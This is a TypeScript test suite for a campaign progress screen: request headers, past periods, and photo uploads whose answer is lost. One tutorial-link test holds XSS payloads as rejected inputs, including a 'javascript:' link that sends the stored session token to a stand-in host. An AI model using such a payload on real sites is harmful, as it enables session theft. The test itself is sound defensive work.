// The flexible campaign progress screen against a strict fake fetch: the first calls once however
// many times it is started, their headers, not found, a past period loaded once, and photo uploads
// (a lost answer checked against the period loaded again: product-rules R210).
import { describe, expect, it, vi } from 'vitest';
import { captureToasts, freshSignedInModules, testSession, useFakeFetch } from '../../support/session.ts';
import { deferred, hang, json, networkError, text, type FakeFetch, type Reply } from '../../support/fake-fetch.ts';
import { freshAnswersCame, settled } from '../../support/screen.ts';

const CAMPAIGNS = 'https://c.test';
const DATA = `${CAMPAIGNS}/campaigns/flexibles/campaigns/data`;
const CURRENT = `${CAMPAIGNS}/campaigns/trackings/evaluation`;
const PAST = `${CAMPAIGNS}/campaigns/flexibles/periods/evaluation`;
const PHOTO = `${CAMPAIGNS}/campaigns/flexibles/photographies/`;
/** 10/10/2026 12:00 in São Paulo. */
const NOW = Date.UTC(2026, 9, 10, 15);

const photoIndicator = {
  id: 1010407,
  name: 'Foto da gôndola',
  description: null,
  flexible_indicator_id: 5,
  visible: true,
  initial_photo_period: '2026-10-01',
  final_photo_period: '2026-10-31',
  photograph: null,
  evaluation: { clientPercentage: 0, status: 0, attempt: 0 },
};
const volumeIndicator = {
  id: 1010401,
  name: 'Volume de compras',
  description: 'Compre caixas.',
  flexible_indicator_id: 1,
  visible: true,
  evaluation: { clientPercentage: 50, goal: 100, total: 50, initialDate: '2026-10-01', final_date: '2026-10-31' },
};
const period = (id: number, indicators: unknown[] = []) => ({
  id: id * 10,
  initial_date: '2026-10-01',
  final_date: '2026-10-31',
  acceptedOnTime: true,
  flexible_period_id: id,
  flexible_campaigns_id: 101,
  evaluation: { clientPercentage: 80, indicators },
  client_score: 10,
});
const data = {
  campaign: { id: 101, name: 'C', description: '', initial_date: null, final_date: null, banner_data: { based_image: null }, pictures: [] },
  periods: [period(10101)],
  accumulated_periods: [
    {
      id: 1,
      accumulated_period_description: 'Trimestre',
      flexible_periods: [{ id: 7, initial_date: '2026-03-01', final_date: '2026-03-31', client_score: 40 }],
      total_client_periods_score: 100,
      total_client_accumulated_score: 40,
    },
  ],
};

let fake: FakeFetch;
useFakeFetch((created) => (fake = created), { quietErrors: true });

/** `events`: stands in for window (the fresh-data events), set before the screen is created. */
async function progressScreen(events?: EventTarget, config: Record<string, unknown> = {}) {
  await freshSignedInModules(fake, testSession(), { config });
  const toasts = await captureToasts();
  const { createCampaignProgressScreen } = await import('../../../src/lib/screens/campaign-progress.ts');
  const photo = await import('../../../src/lib/stores/photo-upload.ts');
  if (events) vi.stubGlobal('window', events);
  return { screen: createCampaignProgressScreen({ now: () => NOW }), toasts, photo };
}

describe('campaign progress screen', () => {
  it('the early start and the mount send each first request once, with their headers (R37)', async () => {
    const { screen } = await progressScreen();
    fake.expect(
      {
        method: 'GET',
        url: DATA,
        assert: (r) => {
          expect(r.headers.get('flexibleclientid')).toBe('100001');
          expect(r.headers.get('flexiblecampaignid')).toBe('101');
        },
        reply: json(data),
      },
      {
        method: 'GET',
        url: CURRENT,
        assert: (r) => {
          expect(r.headers.get('flexibleClientCode')).toBe('100001');
          expect(r.headers.get('flexibleCampaignId')).toBe('101');
        },
        reply: json(period(10104, [volumeIndicator, photoIndicator])),
      },
    );
    screen.start({ id: '101' });
    screen.start({ id: '101' });
    const state = await settled(screen.$state);
    for (const url of [DATA, CURRENT]) expect(fake.calls.filter((call) => call.url === url)).toHaveLength(1);
    if (state.state !== 'ready') throw new Error(state.state);
    const { campaign, current, history, accumulated } = state.view;
    expect(campaign).toEqual({ id: 101, name: 'C', banner: null });
    expect(history).toEqual([{ periodId: 10101, label: '01/10/2026 a 31/10/2026', evaluation: { state: 'closed' } }]);
    expect(accumulated).toEqual([
      {
        id: 1,
        description: 'Trimestre',
        dates: '01/03/2026 - 31/03/2026',
        done: 40,
        total: 100,
        months: [{ id: 7, label: 'Março/2026', points: 40 }],
      },
    ]);
    if (current.state !== 'ready' || !current.period) throw new Error('no current period');
    expect(current.countdown).toBe('Este período termina em 21 dias!');
    expect(current.period).toMatchObject({ periodId: 10104, dates: '01/10/2026 - 31/10/2026', onTime: true, percentage: 80 });
    expect(current.period.indicators).toEqual([
      {
        kind: 'volume',
        id: 1010401,
        name: 'Volume de compras',
        description: 'Compre caixas.',
        percentage: 50,
        clientPoints: undefined,
        totalPoints: undefined,
        dates: '01/10/2026 até 31/10/2026',
        volume: { goal: 100, bought: 50 },
        productGroups: [],
        // The period running now: its missing groups can still be bought (R317).
        current: true,
      },
      expect.objectContaining({
        kind: 'photo',
        state: 'notSent',
        statusText: 'Não enviada',
        sendingEnded: false,
        canSend: true,
        target: { campaignId: 101, periodId: 10104, indicatorId: 1010407 },
      }),
    ]);
  });

  it("a photo indicator's tutorial plays in place from the config's video hosts, else is a link, and only over https (R225, R258)", async () => {
    const { screen } = await progressScreen(undefined, { videoHosts: ['cdn.distribuidora.com.br', 'https://www.youtube-nocookie.com'] });
    const withLink = (id: number, movieLink: string | null) => ({ ...photoIndicator, id, name: `Foto ${id}`, movieLink });
    fake.expect(
      { method: 'GET', url: DATA, reply: json(data) },
      {
        method: 'GET',
        url: CURRENT,
        reply: json(
          period(10104, [
            withLink(1, 'https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
            withLink(2, 'https://www.youtube.com/watch?v=dQw4w9WgXcQ'),
            withLink(3, 'https://tutoriais.example.org/foto-freezer'),
            withLink(4, 'javascript:fetch("//x.example?"+localStorage.getItem("portal:session:v1"))'),
            withLink(5, 'http://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
            withLink(6, 'data:text/html,<script>alert(1)</script>'),
            withLink(7, null),
          ]),
        ),
      },
    );
    screen.start({ id: '101' });
    const state = await settled(screen.$state);
    if (state.state !== 'ready' || state.view.current.state !== 'ready') throw new Error('not ready');
    expect(state.view.current.period?.indicators.map((indicator) => ('tutorial' in indicator ? indicator.tutorial : 'none'))).toEqual([
      { kind: 'file', src: 'https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4' },
      { kind: 'embed', src: 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ' },
      { kind: 'link', href: 'https://tutoriais.example.org/foto-freezer' },
      null,
      null,
      null,
      null,
    ]);
  });

  it('an unknown campaign (404) is not found; a bad id asks nothing (R39)', async () => {
    const { screen } = await progressScreen();
    fake.expect({ method: 'GET', url: DATA, reply: json({ message: 'x' }, 404) }, { method: 'GET', url: CURRENT, reply: json(null) });
    screen.start({ id: '999' });
    expect(await settled(screen.$state)).toEqual({ state: 'not-found' });
    screen.start({ id: '0' });
    expect(await settled(screen.$state)).toEqual({ state: 'not-found' });
  });

  it('a data failure is the page error (toast), a current failure is its section error; retry loads both', async () => {
    const { screen, toasts } = await progressScreen();
    const failure = (details: string) => json({ message: 'Erro', details }, 500);
    fake.expect(
      { method: 'GET', url: DATA, reply: failure('Sem dados.') },
      { method: 'GET', url: DATA, reply: failure('Sem dados.') },
      { method: 'GET', url: CURRENT, reply: json(null) },
    );
    screen.start({ id: '101' });
    expect(await settled(screen.$state)).toEqual({ state: 'error', message: 'Sem dados.' });
    expect(toasts).toEqual([{ kind: 'error', text: 'Sem dados.' }]);
    fake.expect(
      { method: 'GET', url: DATA, reply: json(data) },
      { method: 'GET', url: CURRENT, reply: failure('Sem período.') },
      { method: 'GET', url: CURRENT, reply: failure('Sem período.') },
    );
    screen.retry();
    const state = await settled(screen.$state);
    expect(state.state === 'ready' && state.view.current).toEqual({ state: 'error', message: 'Sem período.' });
    fake.expect({ method: 'GET', url: CURRENT, reply: json(null) });
    const reload = screen.reloadCurrentPeriod();
    const during = screen.$state.get();
    expect(during.state === 'ready' && during.view.current).toEqual({ state: 'loading' });
    await reload;
    const after = screen.$state.get();
    expect(after.state === 'ready' && after.view.current).toEqual({
      state: 'ready',
      countdown: 'Nenhum período ativo no momento!',
      period: null,
    });
  });

  it('loads a past period once with its headers, nothing to buy in it (R37, R317)', async () => {
    const { screen } = await progressScreen();
    fake.expect(
      { method: 'GET', url: DATA, reply: json(data) },
      { method: 'GET', url: CURRENT, reply: json(null) },
      {
        method: 'GET',
        url: PAST,
        assert: (r) => {
          expect(r.headers.get('flexiblePeriodId')).toBe('10101');
          expect(r.headers.get('clientCode')).toBe('100001');
          expect(r.headers.get('flexibleCampaignId')).toBe('101');
        },
        reply: json(period(10101, [photoIndicator, volumeIndicator])),
      },
    );
    screen.start({ id: '101' });
    await settled(screen.$state);
    await screen.openPastPeriod(10101);
    await screen.openPastPeriod(10101);
    const state = screen.$state.get();
    const evaluation = state.state === 'ready' ? state.view.history[0]?.evaluation : undefined;
    expect(evaluation).toMatchObject({ state: 'ready', period: { periodId: 10101 } });
    // Past periods take no photo.
    expect(evaluation?.state === 'ready' && evaluation.period.indicators[0]).toMatchObject({ target: null, canSend: false });
    // Nor is anything still bought for them (R317).
    expect(evaluation?.state === 'ready' && evaluation.period.indicators[1]).toMatchObject({ kind: 'volume', current: false });
  });
});

describe('redrawn with fresh answers (docs/offline.md)', () => {
  it('keeps the past periods the user opened open, redrawn in place with the fresh answer (R277)', async () => {
    const events = new EventTarget();
    try {
      const { screen } = await progressScreen(events);
      const past = { method: 'GET', url: PAST, reply: json(period(10101, [photoIndicator])) } as const;
      fake.expect({ method: 'GET', url: DATA, reply: json(data) }, { method: 'GET', url: CURRENT, reply: json(null) }, past);
      screen.start({ id: '101' });
      await settled(screen.$state);
      await screen.openPastPeriod(10101);
      const evaluationOf = () => {
        const state = screen.$state.get();
        return state.state === 'ready' ? state.view.history[0]?.evaluation : undefined;
      };
      expect(evaluationOf()).toMatchObject({ state: 'ready' });
      const redrawn = { ...data, campaign: { ...data.campaign, name: 'Nova' } };
      const freshPast = deferred();
      fake.expect(
        { method: 'GET', url: DATA, reply: json(redrawn) },
        { method: 'GET', url: CURRENT, reply: json(null) },
        { method: 'GET', url: PAST, reply: freshPast.reply },
      );
      await freshAnswersCame();
      await vi.waitFor(() => {
        const state = screen.$state.get();
        expect(state.state === 'ready' && state.view.campaign.name).toBe('Nova');
      });
      // Before, the redraw closed it: its entry showed nothing until opened again. It stays open, with what
      // it showed until its own fresh answer is in.
      expect(evaluationOf()).toMatchObject({ state: 'ready', period: { periodId: 10101, percentage: 80 } });
      freshPast.resolve(json({ ...period(10101, [photoIndicator]), evaluation: { clientPercentage: 75, indicators: [photoIndicator] } }));
      await vi.waitFor(() => expect(evaluationOf()).toMatchObject({ state: 'ready', period: { periodId: 10101, percentage: 75 } }));
    } finally {
      vi.unstubAllGlobals();
    }
  });
});

const target = { campaignId: 101, periodId: 10104, indicatorId: 1010407 };
const jpeg = () => new Blob(['jpeg'], { type: 'image/jpeg' });
const awaiting = { ...photoIndicator, evaluation: { clientPercentage: 0, status: 2, attempt: 1 } };
const uploads = () => fake.calls.filter((call) => call.method === 'POST' && call.url === PHOTO);
const reloads = () => fake.calls.filter((call) => call.url === CURRENT);

/** The screen showing the current period with the photo indicator not sent yet. */
async function readyScreen() {
  const loaded = await progressScreen();
  fake.expect(
    { method: 'GET', url: DATA, reply: json(data) },
    { method: 'GET', url: CURRENT, reply: json(period(10104, [photoIndicator])) },
  );
  loaded.screen.start({ id: '101' });
  await settled(loaded.screen.$state);
  return loaded;
}

/** The photo indicator as the screen shows it now. */
function shownPhoto(screen: Awaited<ReturnType<typeof progressScreen>>['screen']) {
  const state = screen.$state.get();
  const current = state.state === 'ready' ? state.view.current : null;
  return current?.state === 'ready' ? current.period?.indicators.find((indicator) => indicator.id === target.indicatorId) : undefined;
}

describe('sending a photo', () => {
  it('sends the multipart fields once, never retrying a 500, and keeps the photo for the screen (R47, R210)', async () => {
    const { screen, toasts, photo } = await readyScreen();
    fake.expect(
      { method: 'POST', url: PHOTO, reply: json({ message: 'Erro interno', details: 'Tente novamente mais tarde.' }, 500) },
      { method: 'GET', url: CURRENT, reply: json(period(10104, [photoIndicator])) },
    );
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(false);
    // A 500 may come after the photo was stored: the period loaded again says it is not there (R210).
    expect(toasts).toEqual([{ kind: 'error', text: photo.PHOTO_NOT_ARRIVED }]);
    expect(uploads()).toHaveLength(1);
    expect(photo.$sendingPhoto.get()).toBeNull();
  });

  it('shows the answer details and loads the current period again (R47)', async () => {
    const { screen, toasts } = await progressScreen();
    fake.expect({ method: 'GET', url: DATA, reply: json(data) }, { method: 'GET', url: CURRENT, reply: json(null) });
    screen.start({ id: '101' });
    await settled(screen.$state);
    fake.expect(
      {
        method: 'POST',
        url: PHOTO,
        assert: (r) => {
          const form = r.body as FormData;
          expect(form.get('flexibleCampaignId')).toBe('101');
          expect(form.get('flexiblePeriodId')).toBe('10104');
          expect(form.get('flexibleParamIndicatorId')).toBe('1010407');
          expect(form.get('flexibleClientCode')).toBe('100001');
          expect((form.get('storage') as File).name).toBe('foto.jpg');
        },
        reply: json({ message: 'Foto enviada', details: 'Foto enviada com sucesso! Aguarde a avaliação.' }),
      },
      { method: 'GET', url: CURRENT, reply: json(period(10104)) },
    );
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(true);
    expect(toasts).toEqual([{ kind: 'success', text: 'Foto enviada com sucesso! Aguarde a avaliação.' }]);
    const state = screen.$state.get();
    expect(state.state === 'ready' && state.view.current).toMatchObject({ state: 'ready', period: { periodId: 10104 } });
  });
});

describe('sending a photo: the answer is lost (R210)', () => {
  it.each([
    ['the connection drops', networkError],
    ['a gateway answers 502', text('<html>Bad Gateway</html>', 502, 'text/html')],
    ['the service answers 500', json({ message: 'Erro interno', details: 'Tente novamente mais tarde.' }, 500)],
    ['a 2xx breaks the contract', json({ message: 404 })],
  ] as [string, Reply][])('%s, and the period loaded again shows the photo awaiting evaluation: sent, one upload', async (_name, reply) => {
    const { screen, toasts, photo } = await readyScreen();
    fake.expect({ method: 'POST', url: PHOTO, reply }, { method: 'GET', url: CURRENT, reply: json(period(10104, [awaiting])) });
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(true);
    expect(toasts).toEqual([{ kind: 'success', text: photo.PHOTO_ARRIVED }]);
    expect(uploads()).toHaveLength(1);
    expect(reloads()).toHaveLength(2);
    expect(shownPhoto(screen)).toMatchObject({ state: 'awaiting', statusText: 'Aguardando avaliação', attempts: 1, canSend: false });
    expect(photo.$sendingPhoto.get()).toBeNull();
  });

  it('no answer within 60 s, and the photo is there: sent, one upload', async () => {
    const { screen, toasts, photo } = await readyScreen();
    fake.expect({ method: 'POST', url: PHOTO, reply: hang }, { method: 'GET', url: CURRENT, reply: json(period(10104, [awaiting])) });
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
    const sending = screen.sendPhoto(target, jpeg(), { compressed: true });
    while (uploads().length === 0) await new Promise((resolve) => setImmediate(resolve));
    await vi.advanceTimersByTimeAsync(60_000);
    expect(await sending).toBe(true);
    expect(toasts).toEqual([{ kind: 'success', text: photo.PHOTO_ARRIVED }]);
    expect(uploads()).toHaveLength(1);
  });

  it("not there: says it may be sent again, keeps the photo, one upload; 'Enviar' stays off while it checks", async () => {
    const { screen, toasts, photo } = await readyScreen();
    const reload = deferred();
    fake.expect({ method: 'POST', url: PHOTO, reply: networkError }, { method: 'GET', url: CURRENT, reply: reload.reply });
    const sending = screen.sendPhoto(target, jpeg(), { compressed: true });
    await vi.waitFor(() => expect(reloads()).toHaveLength(2));
    // One send at a time: the photo still counts as on its way while the period loads again.
    expect(photo.$sendingPhoto.get()).toBe(target.indicatorId);
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(false);
    reload.resolve(json(period(10104, [photoIndicator])));
    expect(await sending).toBe(false);
    expect(toasts).toEqual([{ kind: 'error', text: photo.PHOTO_NOT_ARRIVED }]);
    expect(uploads()).toHaveLength(1);
    expect(shownPhoto(screen)).toMatchObject({ state: 'notSent', canSend: true });
    expect(photo.$sendingPhoto.get()).toBeNull();
  });

  it('the period does not load either: says it could not check, keeps the period shown and the photo', async () => {
    const { screen, toasts, photo } = await readyScreen();
    fake.expect(
      { method: 'POST', url: PHOTO, reply: networkError },
      { method: 'GET', url: CURRENT, reply: json({ message: 'Erro', details: 'Sem período.' }, 503) },
    );
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(false);
    // One message, not the reload's error besides it.
    expect(toasts).toEqual([{ kind: 'info', text: photo.PHOTO_UNCHECKED }]);
    expect(uploads()).toHaveLength(1);
    expect(shownPhoto(screen)).toMatchObject({ state: 'notSent', canSend: true });
    expect(photo.$sendingPhoto.get()).toBeNull();
  });

  it('a refusal (4xx) is said as before: its details, no reload (R47)', async () => {
    const { screen, toasts } = await readyScreen();
    fake.expect({
      method: 'POST',
      url: PHOTO,
      reply: json({ message: 'Dados inválidos', details: ['Esta foto já está aguardando avaliação.'] }, 422),
    });
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(false);
    expect(toasts).toEqual([{ kind: 'error', text: 'Esta foto já está aguardando avaliação.' }]);
    expect(reloads()).toHaveLength(1);
  });

  it('offline, the photo is not sent: the error, no upload and no reload (R47)', async () => {
    const { screen, toasts } = await readyScreen();
    vi.stubGlobal('navigator', { onLine: false });
    expect(await screen.sendPhoto(target, jpeg(), { compressed: true })).toBe(false);
    expect(toasts).toEqual([
      { kind: 'error', text: 'Não foi possível conectar ao servidor. Verifique sua conexão com a internet e tente novamente.' },
    ]);
    expect(uploads()).toHaveLength(0);
    expect(reloads()).toHaveLength(1);
  });
});
